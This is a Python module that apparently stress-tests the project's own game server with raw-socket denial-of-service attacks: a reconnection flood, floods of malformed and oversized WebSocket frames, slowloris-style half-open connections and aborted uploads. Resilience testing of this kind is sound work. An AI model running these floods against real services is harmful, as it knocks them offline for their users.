"""Attacks in raw bytes, which cost the attacker next to nothing."""

import asyncio
import random
import socket
from itertools import cycle
from urllib.parse import urlsplit

from houses.raw_websockets import CONT, PING, PONG, TEXT, frame

PERSON = {"kind": "person"}
HOT_SEAT = {"a": PERSON, "d": PERSON}
AT_ONCE = 8  # loops of each attack that run side by side
RECONNECTIONS = 500  # a second, of all loops together
MOST_AT_A_TIME = 20  # of them, of one loop
HALF_OPEN = 1500  # connections that never finish their request
PAUSE = 0.01  # seconds after a connection that failed
CHUNK = 1 << 16
LATE_BIND = 24  # IP_BIND_ADDRESS_NO_PORT of Linux: the system may use a port again that was closed a second ago
HANDSHAKE = (
    "GET /api/matches/{match}/socket HTTP/1.1\r\nHost: {host}\r\n{cookie}Upgrade: websocket\r\nConnection: Upgrade\r\n"
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
)
HELLO = frame(b'{"t": "hello", "n": 0}')
FRAMES = (
    frame(b"", PING),
    frame(b"", PONG),
    frame(b"", CONT, fin=False),
    frame(b"[]"),
    HELLO,
    frame(b"[" * 60_000),
    frame(b"x", TEXT, fin=False) + frame(b"y" * 100, CONT, fin=False),
)


async def connect(attacker):
    """Return a socket that is connected to the house."""
    place = urlsplit(attacker.house)
    connection = socket.socket()
    try:
        connection.setblocking(False)
        connection.setsockopt(socket.IPPROTO_IP, LATE_BIND, 1)
        connection.bind((attacker.source, 0))
        await asyncio.get_running_loop().sock_connect(connection, (place.hostname, place.port))
    except BaseException:
        connection.close()
        raise
    return connection


def handshake(attacker, match, cookies=None):
    """Return the request for the socket of a match."""
    cookie = "".join(f"Cookie: {one.name}={one.value}\r\n" for one in cookies.jar) if cookies else ""
    return HANDSHAKE.format(match=match, host=urlsplit(attacker.house).netloc, cookie=cookie).encode()


async def reconnect(attacker):
    """Connect, say hello and go, without a cookie, five hundred times a second."""
    async with attacker.client() as client:
        match = await attacker.make(client, "tavlei", HOT_SEAT)
    loop, greeting = asyncio.get_running_loop(), handshake(attacker, match) + HELLO
    begun, count = loop.time(), 0
    while True:
        due = (loop.time() - begun) * RECONNECTIONS / AT_ONCE
        missing = min(int(due) - count, MOST_AT_A_TIME)
        results = await asyncio.gather(*(greet(attacker, greeting) for _ in range(missing)))
        count += sum(results)
        await asyncio.sleep(PAUSE)


async def greet(attacker, greeting):
    """Connect, send a greeting and go; return whether it was possible."""
    try:
        with await connect(attacker) as connection:
            await asyncio.get_running_loop().sock_sendall(connection, greeting)
    except OSError as failure:
        attacker.results[type(failure).__name__] += 1
        return False
    attacker.results["connected"] += 1
    return True


async def flood_with_frames(attacker):
    """Send frames of one kind, as many as the house reads, until it closes the connection; then those of another."""
    loop = asyncio.get_running_loop()
    async with attacker.client() as client:
        match = await attacker.make(client, "tavlei", HOT_SEAT)
        for content in cycle(FRAMES):
            try:
                with await connect(attacker) as connection:
                    await loop.sock_sendall(connection, handshake(attacker, match, client.cookies))
                    reading = asyncio.create_task(read_all(connection))
                    try:
                        while not reading.done():
                            await loop.sock_sendall(connection, content * (CHUNK // len(content)))
                            attacker.results["bytes"] += CHUNK
                    finally:
                        reading.cancel()
            except OSError as failure:
                attacker.results[type(failure).__name__] += 1
                await asyncio.sleep(PAUSE)


async def read_all(connection):
    """Read whatever comes, until the house closes the connection."""
    while await asyncio.get_running_loop().sock_recv(connection, CHUNK):
        pass


async def half_open(attacker):
    """Keep many connections open that send a byte now and then, and never a whole request."""
    connections = []
    while True:
        try:
            connections.append(await connect(attacker))
            random.choice(connections).send(b"G")
            attacker.results["opened"] += 1
        except OSError as failure:
            attacker.results[type(failure).__name__] += 1
            await asyncio.sleep(PAUSE)
        if len(connections) >= HALF_OPEN // AT_ONCE:
            connections.pop(0).close()
            await asyncio.sleep(PAUSE)


async def abort_uploads(attacker):
    """Announce a long body, send half of it, and go."""
    host = urlsplit(attacker.house).netloc
    head = f"POST /api/records HTTP/1.1\r\nHost: {host}\r\nContent-Length: 100000\r\n\r\n".encode()
    while True:
        try:
            with await connect(attacker) as connection:
                await asyncio.get_running_loop().sock_sendall(connection, head + b"x" * 50_000)
            attacker.results["aborted"] += 1
        except OSError as failure:
            attacker.results[type(failure).__name__] += 1
        await asyncio.sleep(PAUSE)
